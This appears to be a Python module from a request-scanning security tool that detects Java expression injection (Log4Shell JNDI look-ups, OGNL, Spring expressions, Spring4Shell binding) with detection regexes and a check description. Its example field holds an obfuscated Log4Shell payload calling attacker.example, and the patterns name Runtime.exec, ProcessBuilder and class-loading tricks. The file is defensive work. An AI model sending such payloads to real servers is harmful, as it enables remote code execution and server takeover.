"""Expression injection: a value that a framework or a logger would evaluate (Log4Shell, OGNL, SpEL)."""

import re

from nightlatch.checks.attacks.expressions.lookups import resolve
from nightlatch.checks.attacks.recogniser import Recogniser, found
from nightlatch.checks.attacks.surroundings import surroundings
from nightlatch.checks.attacks.value import Clue, Value
from nightlatch.checks.check import Check, Scope
from nightlatch.exchange.judgement import Level

_BINDING = re.compile(
    r"(?:\A|\.)class(?:\.module)?[.\[]['\"]?(?:classloader|protectiondomain|module)", re.IGNORECASE
)
"""A name that reaches, by data binding, from a form's object to the class loader (Spring4Shell)."""

# Every branch needs the syntax of the call, since stack traces and prose hold the names alone.
_SPACE = r"[\s+]*+"
_JAVA = re.compile(
    rf"""
    (?P<spring> \bT{_SPACE}\({_SPACE}(?:java|javax|org|com|sun|jdk)\.[\w.$]++{_SPACE}\) | \bT{_SPACE}\({_SPACE}(?:Runtime|System|String|Character|Class|Thread|ClassLoader){_SPACE}\){_SPACE}\. )
  | (?P<ognl>   \#_?memberAccess | @ognl\.\w++ | @[a-z]\w*+(?:\.\w++)++@\w | \#context\s*+[\[.]
              | \#(?:application|session|request|attr|parameters|root|ognlUtil|_\w++)\s*+(?:\[['"]|\.(?:put|get|set|remove|clear)\w*+\() | \(\#[a-z_]\w*+\s*+=\s*+(?:[@\#(['"]|new\s|\w++[.@(])
              | com\.opensymphony\.xwork2\.\w | \#\w++\s*+=\s*+(?:new\s|@|\(?\#) | \#\w++\.(?:setExcluded|getExcluded|exec|getInstance)\w*+\(
              | redirect(?:Action)?:[$%]\{{ )
  | (?P<java>   getRuntime{_SPACE}\({_SPACE}\){_SPACE}\.{_SPACE}exec\b
              | new\s++(?:java\.lang\.)?ProcessBuilder{_SPACE}\([^)]*+\)*+[^;]{{0,200}}?\.start
              | (?:getClass{_SPACE}\({_SPACE}\)|\.class|\.class\.class){_SPACE}\.{_SPACE}forName{_SPACE}\(
              | \['class'\]\s*+\.\s*+\w | \["class"\]\s*+\.\s*+\w
              | new\s++(?:javax\.script\.)?ScriptEngineManager{_SPACE}\({_SPACE}[^)]*+\){_SPACE}\.getEngineBy
              | getEngineByName{_SPACE}\([^)]*+\){_SPACE}\.{_SPACE}eval
              | new\s++(?:javax\.management\.loading\.MLet|java\.net\.URLClassLoader|ClassPathXmlApplicationContext|org\.springframework\.[\w.]++ClassPathXmlApplicationContext){_SPACE}\(
              | @(?:groovy\.transform\.)?(?:ASTTest|Grab)\s*+\( | \.execute\(\)\.text\b
              | getClass\(\)\.getClassLoader\(\)\.loadClass\( | \.getClass\(\)\.(?:getMethod|getMethods|getDeclared)\w*+\( )
    """,
    re.VERBOSE | re.IGNORECASE,
)  # fmt: skip
_NAMED = {
    "spring": "is an expression for Spring that reaches for a class of Java",
    "ognl": "is an expression for OGNL that reaches for what it must not",
    "java": "is an expression that has Java run a command or load a class",
}
_SCOPES = re.compile(
    r"[$#%*]\{[^{}]{0,200}\b(?:applicationScope|sessionScope|requestScope|pageContext|facesContext|servletContext|initParam|externalContext)\b",
    re.IGNORECASE,
)
_PROBING = re.compile(
    r"\u27e8\s*+(?:(?P<script>script\s*+:\s*+(?:javascript|js|groovy|jexl|nashorn|ecmascript)|(?:dns\s*+:\s*+(?:address|name|canonicalName)|url\s*+:\s*+[\w-]++\s*+:\s*+[a-z]++:))"
    r"|(?P<host>java\s*+:\s*+(?:version|runtime|vm|os|hw|locale)))",
    re.IGNORECASE,
)
_ADDRESS = re.compile(
    r"\bjndi\s*+:\s*+(?:ldaps?|rmi|dns|iiop|corba|nds|nis|https?)\s*+:", re.IGNORECASE
)
_EVALUATED = re.compile(r"[$%#*~]\{|\A\s*+\(|\A\s*+['\"]|\A\s*+(?:T\(|new\s|#|@)")


def recognise(text: str, value: Value) -> Clue | None:
    if "${" in text and (clue := _lookup(text, value)):
        return clue
    if match := _ADDRESS.search(text):
        return _weighed(
            match, text, value, "has the logger ask a directory server of the caller's", 80
        )
    if (value.is_name or "=" in text) and (match := _BINDING.search(text)):
        if value.is_name or re.match(r"[\w.\[\]'\"]{0,60}=", text[match.end() :]):
            return _weighed(match, text, value, "reaches through a form to the class loader", 92)
    if match := _JAVA.search(text):
        why = _NAMED[match.lastgroup or "java"]
        return _weighed(match, text, value, why, 92 if _EVALUATED.search(text) else 85)
    if match := _SCOPES.search(text):
        return _weighed(
            match, text, value, "is an expression that reads what the application keeps", 70
        )
    return None


def _lookup(text: str, value: Value) -> Clue | None:
    resolved = resolve(text)
    if resolved.jndi:
        at = text.find("${")
        around = surroundings(text, at, text.rfind("}") + 1 or len(text), value)
        if around.code and around.words > 12:
            return None
        return Clue(98, "has the logger fetch code from a directory server", text[at:])
    if resolved.hidden > 1:
        return Clue(75, "spells letters with look-ups, to hide what it asks for", text)
    if match := _PROBING.search(resolved.text):
        around = surroundings(resolved.text, match.start(), match.end(), value)
        if around.code or around.words > 40:
            return None
        if match["script"]:
            certainty, why = 85, "has a look-up run a script or fetch an address"
        else:
            certainty, why = 65, "has the logger say what it runs on"
        return Clue(certainty, why, match[0])
    return None


def _weighed(match: re.Match[str], text: str, value: Value, why: str, alone: int) -> Clue | None:
    around = surroundings(text, match.start(), match.end(), value)
    if around.code:
        return None
    if around.lines > 8 or around.words > 30:
        certainty = 35
    else:
        certainty = alone if around.words <= 10 else min(alone, 65)
    return Clue(certainty, why, text[max(0, match.start() - 20) : match.end() + 60])


_PATTERNS = (
    r"\$\{[^}]{0,200}(?:jndi|lower|upper|:-|script|dns|url|java\s*:|base64|date)",
    r"\$\{\s*\$\{",
    r"jndi[\s:]*:",
    r"class(?:\.module)?[.\[]['\x22]?(?:classloader|protectiondomain|module)",
    r"\bt[\s+]*\([\s+]*(?:java|javax|org|com|sun|jdk|runtime|system|string|character|class|thread)",
    r"#_?memberaccess|@ognl|@[a-z]\w*(?:\.\w+)+@\w|#context|#(?:application|session|request|attr|parameters|root|_\w+)\s*[\[.]|opensymphony",
    r"\(#\w+\s*=|#\w+\s*=\s*(?:new\s|@|\(?#)|redirect(?:action)?:[$%]\{",
    r"getruntime|processbuilder|forname[\s+]*\(|getengineby|scriptenginemanager|\['class'\]|\[\x22class\x22\]|mlet\(|urlclassloader|classpathxml|@asttest|@grab|\.execute\(\)\.text|getclass\(\)",
    r"[$#%*]\{[^{}]{0,200}(?:scope|context|initparam)",
)

CHECK = Check(
    id="expression-injection",
    title="A value carries an expression for Java",
    level=Level.HIGH,
    scope=Scope.REQUEST,
    what="""\
Fails when a value would be evaluated by a logger or a framework of Java: a look-up of Log4j that asks
a directory server (`${jndi:ldap://…}`, however its letters are spelled), an OGNL expression of Struts
or Confluence, a Spring expression that names a class, an expression that walks to `Runtime` and runs
a command, a form field that reaches the class loader. Nested look-ups are resolved as Log4j resolves
them. Stack traces, Java code in a text and ordinary placeholders (`${user.name}`) pass.""",
    why="""\
One such value in any field that is logged, or bound to a form, gives the caller the server: Log4Shell,
Spring4Shell and the Struts holes behind the largest leaks were each a single line. It is tried against
services of every language, because the logs often end up in Java.""",
    example="""\
GET / HTTP/1.1
Host: api.example.com
User-Agent: ${${lower:j}ndi:${lower:l}dap://attacker.example/a}
""",
    remedy="""\
Keep Log4j (2.17.1 or later), Struts and Spring up to date, everywhere that your requests' values
arrive: log shippers and search clusters too. Never evaluate an expression that holds a caller's value.
Let such servers open no connections outwards, so that nothing can be fetched.""",
    owasp="API8:2023",
    cwe=917,
    references=(
        "https://logging.apache.org/security.html",
        "https://nvd.nist.gov/vuln/detail/CVE-2021-44228",
        "https://owasp.org/www-community/vulnerabilities/Expression_Language_Injection",
    ),
    judge=found("expression-injection"),
)

RECOGNISER = Recogniser("expression-injection", _PATTERNS, recognise)
